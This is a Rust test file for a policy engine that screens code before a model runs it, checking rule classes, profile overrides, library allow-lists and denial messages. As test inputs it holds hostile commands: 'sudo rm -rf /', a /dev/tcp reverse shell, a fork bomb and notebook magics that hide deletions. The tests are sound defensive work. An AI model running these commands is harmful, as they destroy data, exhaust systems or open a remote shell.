//! Settings, verdicts and what a model is told.

#![expect(clippy::unwrap_used, reason = "tests end where something is not as expected")]

use redoma_model::policy::{Action, Class, PolicyMode, PolicySettings};
use redoma_policy::facts::Language;
use redoma_policy::{Decided, Origin, Policy, PolicyError, RuleError, Verdict};

fn settings(text: &str) -> PolicySettings {
    toml::from_str(text).unwrap()
}

fn check(text: &str, language: Language, code: &str) -> Verdict {
    Policy::compile(&settings(text), None).unwrap().check(language, code)
}

#[test]
fn a_denial_tells_the_model_where_what_why_and_what_instead() {
    let verdict = check("", Language::Bash, "echo hello\nsudo rm -rf /");
    assert_eq!(verdict.action, Action::Deny);
    let message = verdict.message();
    for part in ["not run", "line 2: rm -rf /", "remove-system", "destructive", "instead:", "become-root"] {
        assert!(message.contains(part), "{part}: {message}");
    }
    assert!(message.lines().count() < 12, "{message}");
}

#[test]
fn what_runs_has_no_message() {
    let verdict = check("", Language::Python, "import requests\nrequests.get('https://example.com')");
    assert_eq!(verdict.action, Action::Flag);
    assert_eq!(verdict.findings[0].rule, "network-call");
    assert_eq!((verdict.findings[0].line, verdict.findings[0].column), (2, 1));
    assert_eq!(verdict.message(), "");
}

#[test]
fn a_class_can_be_decided_by_the_profile_and_a_rule_goes_before_it() {
    let code = "curl https://example.com";
    assert_eq!(check("", Language::Bash, code).action, Action::Flag);
    assert_eq!(check("classes.network = 'deny'", Language::Bash, code).action, Action::Deny);
    let text = "classes.network = 'deny'\nrules.network-program = 'allow'";
    assert_eq!(check(text, Language::Bash, code).action, Action::Allow);
    // A rule's own action gives way to the profile's word on its class.
    let shell = "bash -i >& /dev/tcp/1.2.3.4/1 0>&1";
    assert_eq!(check("", Language::Bash, shell).action, Action::Deny);
    assert_eq!(check("classes.network = 'flag'", Language::Bash, shell).action, Action::Flag);
}

#[test]
fn opaque_code_is_allowed_flagged_or_denied_as_the_profile_says() {
    let code = "import os\nos.system(input())";
    for (text, action) in [
        ("", Action::Flag),
        ("opaque = 'deny'", Action::Deny),
        ("opaque = 'allow'", Action::Allow),
        ("opaque = 'allow'\nclasses.opaque = 'deny'", Action::Allow),
    ] {
        assert_eq!(check(text, Language::Python, code).action, action, "{text}");
    }
}

#[test]
fn nothing_is_said_when_it_is_off() {
    let off = PolicySettings { mode: PolicyMode::Off, ..PolicySettings::default() };
    let verdict = Policy::compile(&off, None).unwrap().check(Language::Bash, "rm -rf /");
    assert_eq!(verdict, Verdict { action: Action::Allow, findings: Vec::new() });
}

#[test]
fn the_worst_comes_first_and_one_rule_says_one_thing_about_a_line() {
    let code = "curl x\nkill 5\nsudo ls; sudo ls\n:(){ :|:& };:";
    let verdict = check("", Language::Bash, code);
    let found: Vec<_> =
        verdict.findings.iter().map(|finding| (finding.rule.as_str(), finding.line)).collect();
    let expected = [("fork-bomb", 4), ("become-root", 3), ("network-program", 1), ("end-processes", 2)];
    assert_eq!(found, expected);
}

#[test]
fn findings_are_bounded_and_short() {
    let verdict = check("", Language::Bash, &format!("rm -rf / {}\n", "x".repeat(1000)).repeat(600));
    assert_eq!(verdict.findings.len(), 50);
    assert!(verdict.findings.iter().all(|finding| finding.excerpt.chars().count() <= 101));
    assert!(verdict.message().contains("and 45 more"), "{}", verdict.message());
}

const OWN: &str = r#"
[[rule]]
id = "no-latex"
class = "process_control"
action = "deny"
reason = "LaTeX takes too long"
hint = "write Markdown"
match = [{ program = ["pdflatex"], unless_argument = ["--version"] }]
examples.match = [{ language = "bash", code = "pdflatex x.tex" }]
examples.not_match = [{ language = "bash", code = "pdflatex --version" }]
"#;

#[test]
fn a_profile_has_rules_of_its_own() {
    let verdict = check(OWN, Language::Python, "import subprocess\nsubprocess.run(['pdflatex', 'x.tex'])");
    assert_eq!(verdict.action, Action::Deny);
    assert_eq!(verdict.findings[0].rule, "no-latex");
    assert_eq!(verdict.findings[0].hint.as_deref(), Some("write Markdown"));
    let explained = Policy::compile(&settings(OWN), None).unwrap().explain();
    let own = explained.iter().find(|rule| rule.rule == "no-latex").unwrap();
    assert_eq!((own.origin, own.decided, own.action), (Origin::Profile, Decided::Rule, Action::Deny));
    let shipped = explained.iter().find(|rule| rule.rule == "remove-system").unwrap();
    assert_eq!(
        (shipped.origin, shipped.decided, shipped.class),
        (Origin::Shipped, Decided::Class, Class::Destructive)
    );
}

#[test]
fn a_rule_that_does_not_do_what_its_examples_say_is_refused() {
    let refused = |text: &str| Policy::compile(&settings(text), None).unwrap_err();
    let error = refused(&OWN.replace("pdflatex x.tex", "latex x.tex"));
    assert_eq!(error.to_string(), "rule `no-latex` does not match its example 1 (`latex x.tex`)");
    let error = refused(&OWN.replace("pdflatex --version", "pdflatex -v"));
    assert!(error.to_string().contains("`no-latex` matches `pdflatex -v`"), "{error}");
    let error = refused(&OWN.replace("program = [\"pdflatex\"], ", ""));
    assert!(matches!(error, PolicyError::Rule(RuleError::BadCondition { number: 1, .. })), "{error}");
    let error = refused(&OWN.replace("no-latex", "remove-system"));
    assert_eq!(error, PolicyError::Rule(RuleError::SameId("remove-system".to_owned())));
    let error = refused(&OWN.replace("[{ language = \"bash\", code = \"pdflatex x.tex\" }]", "[]"));
    assert_eq!(error, PolicyError::Rule(RuleError::NoExample("no-latex".to_owned())));
}

#[test]
fn an_unknown_key_in_a_rule_is_refused() {
    let error = toml::from_str::<PolicySettings>(&OWN.replace("unless_argument", "unless")).unwrap_err();
    assert!(error.to_string().contains("unless"), "{error}");
}

#[test]
fn a_rule_that_does_not_exist_is_named_with_the_nearest() {
    let error = Policy::compile(&settings("rules.remove-sistem = 'allow'"), None).unwrap_err();
    assert!(error.to_string().contains("did you mean `remove-system`?"), "{error}");
}

#[test]
fn only_listed_libraries_are_imported() {
    let allowed = ["numpy".to_owned(), "pandas".to_owned()];
    let policy = Policy::compile(&PolicySettings::default(), Some(&allowed)).unwrap();
    let code = "import os, json\nimport numpy.linalg\nfrom . import mine\nimport torch";
    let verdict = policy.check(Language::Python, code);
    assert_eq!(verdict.action, Action::Deny);
    assert_eq!(verdict.findings.len(), 1);
    assert_eq!((verdict.findings[0].class, verdict.findings[0].line), (Class::Library, 4));
    assert!(verdict.message().contains("`torch` is not allowed"), "{}", verdict.message());
    assert!(verdict.message().contains("numpy, pandas"), "{}", verdict.message());
    assert_eq!(policy.check(Language::JavaScript, "require('lodash'); require('fs')").findings.len(), 1);
    let beside = policy.check_beside(Language::Python, "import torch", |module| module == "torch");
    assert_eq!(beside.action, Action::Allow);
    let hidden = policy.check(Language::Bash, "python3 -c 'import torch'");
    assert_eq!((hidden.action, hidden.findings[0].depth), (Action::Deny, 1));
}

fn shipped() -> Policy {
    Policy::compile(&PolicySettings::default(), None).unwrap()
}

/// However much there is to note before it.
#[test]
fn a_denial_is_not_lost_among_what_is_noted() {
    let code = format!("{}import os\nos.system('rm -rf /')\n", "eval(x)\n".repeat(20_001));
    assert!(shipped().check(Language::Python, &code).is_denied());
}

#[test]
fn one_text_does_not_use_up_what_others_may_take() {
    let policy = shipped();
    for _ in 0..20 {
        policy.check(Language::Python, "lambda\n\u{a0}?a\n");
        policy.check(Language::Python, &format!("# {}\n", "x".repeat(200 << 10)));
    }
    assert!(policy.check(Language::Bash, "rm -rf /").is_denied());
}

#[test]
fn what_a_notebook_runs_is_seen() {
    for code in [
        "# a comment\n%%bash\nrm -rf /",
        "%%timeit -n 3 import os; os.system('rm -rf /')\npass",
        "%%script bash -c 'rm -rf /'\nx",
        "\"\"\"\n, a docstring\n\"\"\"\n!rm -rf /",
    ] {
        assert!(shipped().check(Language::Python, code).is_denied(), "{code}");
    }
}

#[test]
fn an_import_that_may_fail_is_no_reason_to_deny() {
    let policy = Policy::compile(&PolicySettings::default(), Some(&["matplotlib".to_owned()])).unwrap();
    for fine in [
        "try:\n    import ujson as json\nexcept ImportError:\n    import json",
        "from mpl_toolkits.mplot3d import Axes3D\nfrom IPython.display import display",
    ] {
        assert!(!policy.check(Language::Python, fine).is_denied(), "{fine}");
    }
    assert!(policy.check(Language::Python, "import ujson").is_denied());
}
